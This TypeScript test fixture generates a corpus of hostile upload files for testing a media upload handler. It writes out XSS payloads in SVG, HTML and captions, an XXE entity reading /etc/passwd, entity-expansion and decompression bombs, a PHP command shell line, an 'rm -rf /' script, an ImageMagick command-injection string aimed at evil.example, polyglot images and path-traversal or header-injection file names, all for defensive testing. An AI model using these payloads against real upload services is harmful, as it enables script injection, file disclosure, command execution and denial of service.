import { deflateSync, gzipSync } from 'node:zlib';
import {
  aGif,
  anMp4,
  aPhotograph,
  aPng,
  aWebm,
  halves,
  profileBomb,
  svg,
  textBomb,
} from '../../src/features/media/server/uploads/hostile-files.fixture.ts';

/** A file to upload: a description, its bytes, its name and the content type it claims. */
export type HostileFile = { what: string; bytes: Buffer; name: string; type: string };

/** A mark in every file with a hidden payload. It must not be left in anything that is served as an image. */
export const trace = 'canary-payload';

const script = `<script>alert("${trace}")</script>`;
const xmlns = 'xmlns="http://www.w3.org/2000/svg"';
const text = (content: string, encoding: BufferEncoding = 'utf8') => Buffer.from(content, encoding);
const after = (head: Buffer, tail: Buffer | string) => Buffer.concat([head, Buffer.from(tail as string)]);

/** Files that run, load or unpack something, and do not pretend to be an image. */
const bare: [what: string, bytes: Buffer][] = [
  ['SVG with a script', svg],
  ['SVG with a handler', text(`<svg ${xmlns} onload="alert('${trace}')"/>`)],
  ['SVG with HTML', text(`<svg ${xmlns}><foreignObject><body xmlns="x">${script}</body></foreignObject></svg>`)],
  ['SVG with a link', text(`<svg ${xmlns}><a href="javascript:alert('${trace}')"><rect/></a></svg>`)],
  ['SVG with another picture', text(`<svg ${xmlns}><image href="http://127.0.0.1:1/${trace}"/></svg>`)],
  [
    'SVG with an entity',
    text(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg ${xmlns}>&a;</svg>`),
  ],
  [
    'SVG that grows',
    text(
      `<!DOCTYPE svg [<!ENTITY a "${'x'.repeat(99)}"><!ENTITY b "${'&a;'.repeat(99)}"><!ENTITY c "${'&b;'.repeat(99)}">]><svg ${xmlns}>&c;</svg>`,
    ),
  ],
  ['SVG, packed', gzipSync(svg)],
  ['SVG in UTF-16', text(`\ufeff${svg}`, 'utf16le')],
  ['SVG after a mark', text(`\ufeff${svg}`)],
  ['HTML', text(`<!doctype html>${script}`)],
  ['HTML in UTF-7', text('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')],
  ['HTML in UTF-16', text(`\ufeff<html>${script}`, 'utf16le')],
  ['HTML after a comment', text(`<!-- ${'x'.repeat(5000)} -->${script}`)],
  ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`)],
  ['XSLT', text('<?xml version="1.0"?><xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>')],
  ['a script', text(`alert("${trace}")`)],
  ['a style sheet', text(`@import "//evil.example/${trace}";`)],
  ['PHP', text(`<?php system($_GET["${trace}"]); ?>`)],
  ['a shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['MHTML', text(`MIME-Version: 1.0\nContent-Type: text/html\n\n${script}`)],
  ['PDF', text('%PDF-1.7\n1 0 obj\n<</JS(app.alert(1))>>\nendobj')],
  ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file')],
  ['ImageMagick', text("push graphic-context\nviewbox 0 0 9 9\nfill 'url(https://evil.example/|ls)'\n")],
  ['a playlist', text('#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nfile:///etc/passwd\n')],
  ['a list of films', text("ffconcat version 1.0\nfile '/etc/passwd'\n")],
  ['DASH', text('<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"/>')],
  ['captions', text(`WEBVTT\n\n00:00.000 --> 00:09.000\n${script}`)],
  ['ZIP', text('PK\x03\x04\x14\x00xxxxxxxxxxxxxxxxxxxxxxxxxxxx', 'latin1')],
  ['7z', text('7z\xbc\xaf\x27\x1c\x00\x04', 'latin1')],
  ['a Windows program', text('MZ\x90\x00\x03\x00\x00\x00', 'latin1')],
  ['a Linux program', text('\x7fELF\x02\x01\x01', 'latin1')],
  ['WebAssembly', Buffer.from('0061736d01000000', 'hex')],
  ['Flash', text('CWS\x0a\x00\x00\x00\x00', 'latin1')],
  ['Java', Buffer.from('cafebabe00000034', 'hex')],
  ['an icon', Buffer.from([0, 0, 1, 0, 1, 0, 16, 16, 0, 0, 1, 0, 32, 0])],
  ['BMP', text(`BM${'\0'.repeat(60)}`, 'latin1')],
  ['PSD', text('8BPS\x00\x01', 'latin1')],
  ['JPEG XL', Buffer.from('0000000c4a584c200d0a870a', 'hex')],
  ['JPEG 2000', Buffer.from('0000000c6a5020200d0a870a', 'hex')],
  ['HEIC', anMp4(5000, 'heic')],
  ['XBM', text('#define x_width 9\n#define x_height 9\nstatic char x_bits[] = {0};')],
  ['Ogg', text('OggS\x00\x02', 'latin1')],
  ['nothing', Buffer.alloc(0)],
  ['one byte', text('x')],
  ['zeros', Buffer.alloc(100_000)],
];

const formats = ['jpeg', 'png', 'webp', 'gif', 'avif'] as const;

/** Images with something else hidden in them, and broken images. */
async function masked(): Promise<[string, Buffer][]> {
  const found: [string, Buffer][] = [];
  for (const format of formats) {
    const whole = await aPhotograph(90, 60).toFormat(format).toBuffer();
    const hidden = text(`${trace}${script}`);
    const flipped = Buffer.from(whole);
    for (let at = 30; at < flipped.length; at += 37) flipped[at] = (flipped[at] ?? 0) ^ 0x5a;
    found.push(
      [`${format} with HTML after it`, after(whole, hidden)],
      [`${format} with an archive after it`, after(whole, `PK\x03\x04${trace}`)],
      [`${format} with PHP after it`, after(whole, `<?php /*${trace}*/ ?>`)],
      [`${format} with SVG after it`, after(whole, svg)],
      [`${format} with HTML before it`, after(hidden, whole)],
      [`${format} that ends after its head`, after(whole.subarray(0, 12), hidden)],
      [`a quarter of ${format}`, whole.subarray(0, whole.length >> 2)],
      [`half of ${format}`, whole.subarray(0, whole.length >> 1)],
      [`${format} without its last byte`, whole.subarray(0, -1)],
      [`${format} with bits flipped`, flipped],
      [`${format} that says where and with what`, await marked().toFormat(format).toBuffer()],
    );
  }
  return found;
}

const marked = () =>
  aPhotograph(90, 60).withExif({
    IFD0: { Make: trace, ImageDescription: script },
    IFD3: { GPSLatitude: '38/1 43/1 0/1', GPSLatitudeRef: 'N' },
  });

const comment = (kind: 'tEXt' | 'iTXt'): [string, Buffer] => [
  kind,
  text(`Comment\0${kind === 'iTXt' ? '\0\0\0\0' : ''}${script}`),
];

/** Images that are expensive to decode, and those of rare kinds. */
async function costly(): Promise<[string, Buffer][]> {
  const png = aPng(90, 60);
  const wrongSum = Buffer.from(png);
  wrongSum[29] = (wrongSum[29] ?? 0) ^ 0xff;
  const padded = async (size: number) => {
    const jpeg = await aPhotograph().jpeg().toBuffer();
    return after(jpeg, Buffer.alloc(size - jpeg.length));
  };
  const megabyte = 1024 * 1024;
  return [
    ['196 megapixels of one colour', aPng(14_000, 14_000)],
    ['60,000 by 1', aPng(60_000, 1)],
    ['1 by 60,000', aPng(1, 60_000)],
    ['0 by 0', aPng(0, 0)],
    ['a head of 4 gigapixels', aPng(65_000, 65_000, [], 1)],
    ['fewer rows than it says', aPng(3000, 3000, [], 5)],
    ['more rows than it says', aPng(9, 9, [], 500_000)],
    ['a wrong sum', wrongSum],
    ['a text that swells', aPng(90, 90, [textBomb(100)])],
    ['a profile that swells', aPng(90, 90, [profileBomb(100)])],
    ['a profile that is none', aPng(90, 90, [['iCCP', after(text('x\0\0', 'latin1'), deflateSync(text(trace)))]])],
    ['a comment', aPng(90, 90, [comment('tEXt')])],
    ['an international comment', aPng(90, 90, [comment('iTXt')])],
    ['5,000 comments', aPng(90, 90, Array(5000).fill(comment('tEXt')))],
    ['a GIF of ten thousand frames', aGif(50, 50, 10_000)],
    ['a GIF as large as a head can say', aGif(65_535, 65_535)],
    ['CMYK', await halves().toColourspace('cmyk').jpeg().toBuffer()],
    ['16 bits', await halves().toColourspace('rgb16').png().toBuffer()],
    ['grey', await halves().toColourspace('b-w').png().toBuffer()],
    ['interlaced', await halves(1000, 1000).png({ progressive: true }).toBuffer()],
    ['lying on its side', await halves().withMetadata({ orientation: 6 }).jpeg().toBuffer()],
    ['TIFF', await halves().tiff().toBuffer()],
    ['a byte less than 5 MB', await padded(5 * megabyte - 1)],
    ['5 MB', await padded(5 * megabyte)],
    ['a byte more than 5 MB', await padded(5 * megabyte + 1)],
    ['a byte more than 10 MB', await padded(10 * megabyte + 1)],
  ];
}

const videos: [string, Buffer][] = [
  ['HTML before a film', after(text('<html>'), anMp4())],
  ['a film with a page in its head', anMp4(5000, 'isom', 'free').fill(script, 60, 100)],
  ['a film with a page in its middle', anMp4().fill(script, 1000, 1040)],
  ['a film with a page after it', after(anMp4(), script)],
  ['a head that never ends', anMp4().fill(0x3c, 0, 4)],
  ['a head of no length', anMp4().fill(0, 0, 4)],
  ['a head alone', anMp4().subarray(0, 20)],
  ['QuickTime', anMp4(5000, 'qt  ')],
  ['a brand that nobody knows', anMp4(5000, 'evil')],
  ['Matroska', aWebm(5000, 'matroska')],
  ['a WebM of no end', aWebm().fill(0xff, 4, 5)],
  ['a WebM with a page after it', after(aWebm(), script)],
];

/** Hostile file names, used on a harmless image. */
const names = [
  ...['../../../etc/cron.d/x.png', '..\\..\\x.png', '/etc/passwd', 'C:\\x.png', '.htaccess', 'con', 'nul.png'],
  ...['x.php', 'x.png.php', 'x.svg', 'x.html', 'x.png\0.html', 'x\u202egnp.exe', 'x\r\nX-Evil: 1.png', '"; name="role'],
  ...[`${'a'.repeat(5000)}.png`, '', '.', '..', '%2e%2e%2fx.png', 'x.png::$DATA', '<img src=x onerror=alert(1)>.png'],
];

const typesOf = ['image/png', 'image/jpeg', 'text/html', 'image/svg+xml', 'application/x-php', 'video/mp4', ''];

/** All hostile files, made by each call: none is kept as a file in the repository. */
export async function hostileCorpus(): Promise<HostileFile[]> {
  const contents = [...bare, ...(await masked()), ...(await costly()), ...videos];
  const files = contents.map(([what, bytes], index) => ({
    what,
    bytes,
    name: `${index}.png`,
    type: typesOf[index % typesOf.length] ?? '',
  }));
  const image = aPng(30, 20);
  return [
    ...files,
    ...names.map((name) => ({ what: `a name: ${name.slice(0, 40)}`, bytes: image, name, type: 'image/png' })),
  ];
}
